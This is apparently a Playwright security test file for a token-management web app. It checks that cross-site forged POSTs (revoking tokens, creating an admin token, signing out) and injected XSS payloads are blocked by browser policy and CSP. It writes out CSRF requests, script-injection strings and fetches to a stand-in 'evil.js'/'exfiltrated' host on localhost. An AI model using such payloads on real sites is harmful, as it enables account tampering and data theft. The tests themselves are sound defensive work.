import type { Request } from '@playwright/test';
import { attacker, state } from './support/attacker.ts';
import { signIn, test, expect } from './support/fixtures.ts';
import { TOKENS } from './support/journeys.ts';

// On 127.0.0.1 with another port a page is of the same site, so that cookies come along: there the guard stands alone.
for (const host of ['127.0.0.1', 'localhost']) {
  test(`a page of somebody else on ${host} changes nothing with scripts and reads nothing`, async ({ browser, server }) => {
    const label = `coveted by scripts on ${host}`;
    const { token } = await server.token({ label });
    const before = await state(server);
    // In a browser of its own, because what it complains about is about the other page, and the last of it comes when it likes.
    const context = await browser.newContext();
    await signIn(context, server.owner, server.origin);
    await attacker(host, '', async (evil) => {
      const page = await context.newPage();
      await page.goto(evil);
      // The beacon tells its page nothing, so the browser has to say when it has ended.
      const beacon = new Promise<void>((ended) => {
        const told = (request: Request) => void (request.resourceType() === 'ping' && ended());
        context.on('requestfinished', told).on('requestfailed', told);
      });
      const outcomes = await page.evaluate(
        async ({ to, revoking, wanted, revoked }) => {
          const form = (fields: Record<string, string>) => new URLSearchParams(fields);
          const post = async (path: string, body: BodyInit, mode: RequestMode, headers: HeadersInit = {}) =>
            await fetch(to + path, { method: 'POST', credentials: 'include', mode, body, headers }).then(
              (answer) => `${answer.type} ${answer.status}`,
              () => 'refused by the browser',
            );
          return {
            'form, opaque': await post(revoking, form(revoked), 'no-cors'),
            'text that is JSON, opaque': await post(revoking, JSON.stringify(revoked), 'no-cors'),
            'page form, opaque': await post('/orgs/acme/tokens/new', form(wanted), 'no-cors'),
            'sign out, opaque': await post('/sign-out', form({}), 'no-cors'),
            'form, to be read': await post('/orgs/acme/tokens/new', form(wanted), 'cors'),
            'JSON, to be read': await post('/orgs/acme/tokens/new', JSON.stringify(wanted), 'cors', { 'Content-Type': 'application/json' }),
            'page, to be read': await fetch(`${to}/orgs/acme/tokens`, { credentials: 'include' }).then(
              (answer) => `${answer.type} ${answer.status}`,
              () => 'refused by the browser',
            ),
            beacon: String(navigator.sendBeacon(to + revoking, form(revoked))),
          };
        },
        {
          to: server.origin,
          wanted: { organization: 'acme', label: 'planted', role: 'admin', expiry: 'never', description: '' },
          revoking: `/orgs/acme/tokens/${token.id}/revoke`,
          revoked: { label },
        },
      );
      for (const [how, outcome] of Object.entries(outcomes)) {
        // Chromium gives an opaque answer or, where the resource policy says so, none.
        const harmless = how === 'beacon' ? /^true$/ : how.endsWith('opaque') ? /^opaque 0$|^refused by the browser$/ : /^refused by the browser$/;
        expect(outcome, how).toMatch(harmless);
      }
      await beacon;
      expect(await state(server)).toBe(before);
    });
    await context.close();
    expect((await server.post(`${TOKENS}/${token.id}/revoke`, { label }, { Cookie: server.ownerCookie })).status).toBe(303);
    expect(await state(server)).not.toBe(before);
  });
}

test('what somebody manages to put into a page does not run', async ({ page, visit, complaints }) => {
  await visit(TOKENS);
  const outcomes = await page.evaluate(async () => {
    // What runs in the task of a debugger may evaluate text; pages may not, so this goes on in a task of its own.
    await new Promise((done) => setTimeout(done));
    const violated: string[] = [];
    document.addEventListener('securitypolicyviolation', ({ effectiveDirective }) => violated.push(effectiveDirective));
    const attempt = (what: () => void) => {
      try {
        what();
        return 'went through';
      } catch (error) {
        return (error as Error).name;
      }
    };
    const element = <K extends keyof HTMLElementTagNameMap>(name: K) => document.body.appendChild(document.createElement(name));
    const tried = {
      'markup with a handler': attempt(() => (element('div').innerHTML = '<img src="x" onerror="window.__pwn=1">')),
      'markup with a script': attempt(() => (element('div').innerHTML = '<script>window.__pwn=2</script>')),
      'a script of text': attempt(() => (element('script').text = 'window.__pwn=3')),
      'a script from elsewhere': attempt(() => (element('script').src = 'http://localhost:9/evil.js')),
      eval: attempt(() => new Function('window.__pwn=4')()),
      'a handler': attempt(() => {
        const button = element('button');
        button.setAttribute('onclick', 'window.__pwn=5');
        button.click();
      }),
    };
    const link = element('a');
    link.href = 'javascript:window.__pwn=6';
    link.click();
    element('span').setAttribute('style', 'color: red');
    await fetch('http://localhost:9/exfiltrated').catch(() => {});
    const image = element('img');
    await new Promise((done) => {
      image.addEventListener('error', done);
      image.src = 'http://localhost:9/exfiltrated.png';
    });
    await new Promise((done) => setTimeout(done));
    return { tried, violated: [...new Set(violated)], pwned: '__pwn' in window };
  });
  expect(outcomes, 'nothing ran').toMatchObject({ pwned: false });
  for (const how of ['markup with a handler', 'markup with a script', 'a script of text', 'a script from elsewhere'] as const) {
    expect(outcomes.tried[how], how).toBe('TypeError');
  }
  expect(outcomes.tried.eval).not.toBe('went through');
  expect(outcomes.violated).toEqual(
    expect.arrayContaining(['require-trusted-types-for', 'style-src-attr', 'connect-src', 'img-src', 'script-src-elem']),
  );
  // Each of these was complained about, which is how the tour of the pages would know.
  expect(complaints.splice(0).length).toBeGreaterThan(5);
});
